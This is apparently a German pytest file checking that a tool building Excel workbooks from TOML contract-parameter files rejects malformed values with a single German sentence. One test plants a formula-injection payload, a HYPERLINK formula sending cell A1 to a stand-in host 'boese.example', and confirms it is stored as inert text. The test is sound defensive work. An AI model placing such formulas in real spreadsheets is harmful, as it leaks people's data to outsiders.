"""Files of contract values written by other people: every slip is one German sentence, never a traceback.

The property at the end puts values of every kind at every place; the cases before it are those somebody found.
"""

from __future__ import annotations

import os
import re
from datetime import date, datetime, time
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from befehlszeile import Lauf, egh
from hypothesis import given
from hypothesis import strategies as st

from calc import parameter
from calc.parameter import datei
from workbooks.mappe import Arbeitsmappe

GUT = """[wochen_jahr]
anzeige = "Wochen je Jahr"
einheit = "Wochen/Jahr"
geprueft = 2026-01-01
[wochen_jahr.2020-01-01]
wert = 52
quelle = "Haustarif 2020, Anlage 2, Seite 1"
beleg = "amtlich"
"""
ENGLISCH = re.compile(
    r"\b(invalid|literal|error|must|object|attribute|expected|limit|out of range|int|str|NoneType|Fraction|line)\b"
)

SCHLECHT = {
    "geteilt durch null": (("wert = 52", 'wert = "1/0"'), "„1/0“ ist keine Zahl"),
    "400 Ziffern": (("wert = 52", f"wert = {'9' * 400}"), "eine sehr große Zahl ist keine Zahl"),
    "5000 Ziffern": (("wert = 52", f"wert = {'9' * 5000}"), "ist kein TOML"),
    "unendlich": (("wert = 52", "wert = 1e309"), "„inf“ ist keine Zahl"),
    "keine Zahl": (("wert = 52", "wert = nan"), "„nan“ ist keine Zahl"),
    "als Text zu groß": (("wert = 52", 'wert = "1e309"'), "„1e309“ ist keine Zahl"),
    "Zeitbombe": (("wert = 52", 'wert = "1e999999999999"'), "ist keine Zahl"),
    "kleine Zeitbombe": (("wert = 52", 'wert = "1e-99999999"'), "ist keine Zahl"),
    "arabisch": (("wert = 52", 'wert = "٣"'), "ist keine Zahl"),
    "mit Unterstrich": (("wert = 52", 'wert = "1_0"'), "ist keine Zahl"),
    "wahr": (("wert = 52", "wert = true"), "true ist keine Zahl"),
    "geprueft Zahl": (("= 2026-01-01", "= 5"), "„5“ ist kein Tag"),
    "geprueft Uhrzeit": (("= 2026-01-01", "= 10:00:00"), "„10:00:00“ ist kein Tag"),
    "geprueft Zeitpunkt": (("= 2026-01-01", "= 2026-01-01T10:00:00"), "ist kein Tag"),
    "Tag gibt es nicht": (("wochen_jahr.2020-01-01", 'wochen_jahr."2020-13-01"'), "„2020-13-01“ ist kein Tag"),
    "Quelle Liste": (('"Haustarif 2020, Anlage 2, Seite 1"', '["a"]'), "eine Liste ist kein Text"),
    "Quelle Steuerzeichen": (("Haustarif 2020", r"\u0000"), "enthält ein Steuerzeichen"),
    "Quelle lang": (("Haustarif 2020", "H" * 3000), "mehr als 2000 Zeichen"),
    "tiefe Listen": (("wert = 52", f"wert = {'[' * 2000}{']' * 2000}"), "zu tief verschachtelt"),
    "tiefe Abschnitte": (("wert = 52", f"wert = {{{'.'.join('a' * 3000)} = 1}}"), "zu tief verschachtelt"),
    "langer Weg": (("[wochen_jahr]", f"{'.'.join('a' * 100_000)} = 1\n[wochen_jahr]"), "zu tief verschachtelt"),
    "langer Abschnitt": (("[wochen_jahr]", f"[{' . '.join('ab' * 20_000)}]\n[wochen_jahr]"), "zu tief verschachtelt"),
    "Stufe ohne Namen": (("wert = 52", "wert = [{von = 1, bis = 2}]"), "Stufen"),
    "Abschnitt fehlt": ((GUT, "wochen_jahr = 5"), "erwartet wird ein Abschnitt"),
    "kein TOML": ((GUT, "[x"), "ist kein TOML (am Ende der Datei)"),
    "nicht UTF-8": ((GUT, "\udcff"), "nicht in UTF-8"),
}  # fmt: skip


def geprueft(lauf: Lauf, satz: str) -> None:
    assert lauf.returncode == 2
    assert lauf.stdout == ""
    assert lauf.stderr.count("\n") == 1
    assert satz in lauf.stderr, lauf.stderr
    assert not ENGLISCH.search(lauf.stderr), lauf.stderr


@pytest.mark.parametrize(("tausch", "satz"), SCHLECHT.values(), ids=SCHLECHT)
def test_eigene_werte(tausch: tuple[str, str], satz: str, tmp_path: Path) -> None:
    assert tausch[0] in GUT
    (tmp_path / "p.toml").write_text(GUT.replace(*tausch), encoding="utf-8", errors="surrogateescape")
    lauf = egh("vorlage", "nw", "-o", tmp_path / "x.xlsx", "--parameter", tmp_path / "p.toml")
    geprueft(lauf, satz)
    assert "nw.toml" not in lauf.stderr  # it is another file
    assert [p.name for p in tmp_path.iterdir()] == ["p.toml"]


@pytest.mark.parametrize(("tausch", "satz"), SCHLECHT.values(), ids=SCHLECHT)
def test_parameter_pruefen(tausch: tuple[str, str], satz: str, tmp_path: Path) -> None:
    """What can be read is checked on; the findings are German as well."""
    (tmp_path / "nw.toml").write_text(GUT.replace(*tausch), encoding="utf-8", errors="surrogateescape")
    lauf = egh("parameter", "pruefen", tmp_path)
    if "TOML" in satz or "tief" in satz or "UTF" in satz:
        geprueft(lauf, satz)
    else:
        assert lauf.returncode == 1
        assert lauf.stderr == ""
        assert satz in lauf.stdout
        assert not ENGLISCH.search(lauf.stdout), lauf.stdout


def test_zu_gross(tmp_path: Path) -> None:
    (tmp_path / "nw.toml").write_text(GUT + "#" * datei.HOECHSTENS_BYTES, encoding="utf-8")
    geprueft(egh("parameter", "pruefen", tmp_path), "größer als 1000 KB")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="braucht Leitungen")
def test_leitungen_und_geraete_sind_keine_dateien(tmp_path: Path) -> None:
    """They never end."""
    os.mkfifo(tmp_path / "nw.toml")
    geprueft(egh("parameter", "pruefen", tmp_path), "nw.toml ist keine Datei")
    for eigene in (tmp_path / "nw.toml", Path("/dev/zero")):
        geprueft(egh("vorlage", "nw", "-o", tmp_path / "x.xlsx", "--parameter", eigene), "ist keine Datei")


@pytest.mark.parametrize(
    ("tausch", "satz"),
    [
        (('"Wochen/Jahr"', '"Anteil"'), "Einheit ist „Anteil“, beim Vertragswert „Wochen/Jahr“"),
        (("geprueft", 'bezug = "brutto"\ngeprueft'), "Bezug ist „brutto“, beim Vertragswert „“"),
    ],
)
def test_eigene_werte_meinen_dasselbe_wie_der_vertragswert(
    tausch: tuple[str, str], satz: str, tmp_path: Path
) -> None:
    """A gross value in the place of a net one would be plausible and wrong."""
    (tmp_path / "p.toml").write_text(GUT.replace(*tausch), encoding="utf-8")
    geprueft(egh("vorlage", "nw", "-o", tmp_path / "x.xlsx", "--parameter", tmp_path / "p.toml"), satz)


def test_mit_der_marke_von_windows_editoren(tmp_path: Path) -> None:
    (tmp_path / "p.toml").write_text(GUT, encoding="utf-8-sig")
    ziel = tmp_path / "x.xlsx"
    assert (
        egh("vorlage", "nw", "-o", ziel, "--zeilen", "2", "--parameter", tmp_path / "p.toml").returncode == 0
    )
    assert Arbeitsmappe.oeffnen(ziel)["eingabe_wochen_jahr"] == 52


@pytest.mark.parametrize("anfang", "=+-@")
def test_eine_quelle_wird_nie_zur_formel(anfang: str, tmp_path: Path) -> None:
    """A live link would carry cell contents out of the house (F8)."""
    quelle = f'{anfang}HYPERLINK("http://boese.example/?"&A1,"Vertrag")'
    text = GUT.replace('"Haustarif 2020, Anlage 2, Seite 1"', f"'{quelle}'")
    (tmp_path / "p.toml").write_text(text, encoding="utf-8")
    ziel = tmp_path / "x.xlsx"
    assert (
        egh("vorlage", "nw", "-o", ziel, "--zeilen", "2", "--parameter", tmp_path / "p.toml").returncode == 0
    )
    zellen = [z for blatt in openpyxl.load_workbook(ziel) for reihe in blatt.iter_rows() for z in reihe]
    gefunden = [z for z in zellen if z.value == quelle]
    assert gefunden
    assert {(z.data_type, z.quotePrefix) for z in gefunden} == {("s", True)}
    assert not [z for z in zellen if z.data_type == "f" and "boese" in str(z.value)]


WERTE = st.recursive(
    st.one_of(
        st.booleans(), st.integers(), st.floats(), st.text(max_size=5), st.integers(10**300, 10**310),
        st.dates(), st.datetimes(), st.times(), st.sampled_from(["52", "365/7", "1/0", "2020-01-01", "amtlich", "-"]),
    ),
    lambda teil: (
        st.lists(teil, max_size=3) | st.dictionaries(st.sampled_from(["hbg", "vk", "von", "x"]), teil, max_size=3)
    ),
    max_leaves=4,
)  # fmt: skip
STELLEN = st.sampled_from(["anzeige", "einheit", "geprueft", "bezug", "2020-01-01", "x"])
IM_BLOCK = st.sampled_from(["wert", "quelle", "beleg", "link", "notiz", "y"])
GUTER_KOPF = {"anzeige": "a", "einheit": "Anteil", "geprueft": date(2026, 1, 1)}
GUTER_BLOCK = {"wert": 1, "quelle": "q", "beleg": "amtlich"}


@given(
    st.sampled_from(["hbg", "wochen_jahr"]),
    st.dictionaries(STELLEN, WERTE, max_size=2),
    st.dictionaries(IM_BLOCK, WERTE, max_size=2),
)
def test_jeder_wert_an_jeder_stelle(name: str, kopf: dict[str, Any], block: dict[str, Any]) -> None:
    satz = ""
    try:
        p = parameter.gelesen("NW", name, {**GUTER_KOPF, "2020-01-01": {**GUTER_BLOCK, **block}, **kopf})
    except ValueError as grund:
        satz = re.sub("„.*?“", "", str(grund), flags=re.S)
    assert not ENGLISCH.search(satz), satz
    if satz:
        return
    assert type(p.geprueft) is date
    for stand in p.staende:
        assert stand.wert is None or isinstance(stand.wert, (float, tuple))
        assert all(isinstance(t, str) for t in (stand.quelle, stand.link, stand.notiz, p.anzeige))


@given(WERTE)
def test_was_keine_zahl_kein_text_kein_tag_ist(roh: Any) -> None:
    for lesen, art in ((datei.zahl, float), (datei.text, str), (datei.tag, date)):
        try:
            wert = lesen("x", roh)
        except ValueError:
            continue
        assert type(wert) is art
        assert not isinstance(roh, (bool, datetime, time, list, dict))
